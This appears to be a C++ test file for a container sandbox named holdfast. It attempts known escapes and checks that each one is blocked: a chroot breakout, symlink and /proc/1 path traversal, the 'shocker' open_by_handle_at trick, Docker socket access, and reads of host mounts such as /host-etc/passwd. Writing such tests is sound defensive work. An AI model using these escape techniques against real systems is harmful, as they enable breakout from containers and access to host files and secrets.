// Paths that lead out of the container. The test puts a secret outside and tells where: $HOLDFAST_SECRET.
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "integration/escape/actions/actions.h"

namespace holdfast::escape {
namespace {

constexpr char kSecret[] = "secret of the host";

const char* secret_path() {
  const char* path = getenv("HOLDFAST_SECRET");
  return path != nullptr ? path : "/nonexistent";
}

bool secret_behind(const char* prefix) {
  char path[4096];
  snprintf(path, sizeof path, "%s%s", prefix, secret_path());
  return file_begins(path, kSecret);
}

Outcome found(bool found) {
  if (found) return done();
  errno = ENOENT;
  return denied();
}

// Out of a root that is not the process's own any more: 1990's escape from chroot.
Outcome out_of_chroot() {
  const int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  mkdir("/tmp/jail", 0755);
  if (outside < 0 || chroot("/tmp/jail") != 0) return denied();
  if (fchdir(outside) != 0) return denied();
  for (int i = 0; i < 64; ++i)
    if (chdir("..") != 0) return denied();
  if (chroot(".") != 0) return denied();
  return secret_behind("") ? done() : no_effect();
}

Outcome by_symlink() {
  char target[4096];
  snprintf(target, sizeof target, "/../../../../../../../..%s", secret_path());
  unlink("/tmp/link");
  if (symlink(target, "/tmp/link") != 0) return denied();
  return found(file_begins("/tmp/link", kSecret));
}

// What descriptors and working directories of other processes point to.
Outcome by_proc() {
  bool reached = false;
  for (const char* way : {"", "/proc/self/root", "/proc/1/root", "/proc/1/cwd/../../../../../.."})
    reached = reached || secret_behind(way);
  for (int fd = 0; fd < 64; ++fd) {
    char way[64];
    snprintf(way, sizeof way, "/proc/1/fd/%d/../../../../../..", fd);
    reached = reached || secret_behind(way);
  }
  return found(reached);
}

// The "shocker" of 2014: a handle of inode 2 is the root of the file system that the
// image lies on.
Outcome by_handle() {
  alignas(file_handle) char room[sizeof(file_handle) + 8] = {};
  auto* handle = reinterpret_cast<file_handle*>(room);
  handle->handle_bytes = 8;
  handle->handle_type = 1;
  const unsigned number = 2;
  memcpy(room + sizeof(file_handle), &number, sizeof number);
  const int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int fd = open_by_handle_at(mount, handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  return by_gate(fd, ESTALE);
}

// --- what the engine was asked for: the test binds these ---

Outcome engine_socket() {
  const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  strcpy(address.sun_path, "/var/run/docker.sock");
  if (connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0)
    return denied();
  char answer[16] = "";
  if (write(fd, "attack\n", 7) != 7 || read(fd, answer, sizeof answer - 1) < 0) return denied();
  return strncmp(answer, "obeyed", 6) == 0 ? done() : no_effect();
}

// Whether a process of the host is in sight: the test's own.
Outcome host_process() {
  const char* pid = getenv("HOLDFAST_TEST_PID");
  return pid == nullptr ? absent() : by_result(kill(atoi(pid), 0));
}

constexpr Action kActions[] = {
    {"chroot-escape", "the host's files", out_of_chroot},
    {"symlink-escape", "the host's files", by_symlink},
    {"proc-root-escape", "the host's files, through /proc/1", by_proc},
    {"open-by-handle", "the host's files, by number", by_handle},
    {"bound-engine-socket", "every container and the host", engine_socket},
    {"bound-host-root", "every file of the host", [] { return found(secret_behind("/host")); }},
    {"bound-host-etc", "the host's settings and secrets",
     [] { return by_result(open("/host-etc/passwd", O_RDONLY | O_CLOEXEC)); }},
    {"bound-host-usr", "the host's programs, replaced",
     [] { return by_result(access("/host-usr/bin", W_OK)); }},
    {"shared-host-pids", "the host's processes", host_process},
};

}  // namespace

std::span<const Action> path_actions() { return kActions; }

}  // namespace holdfast::escape
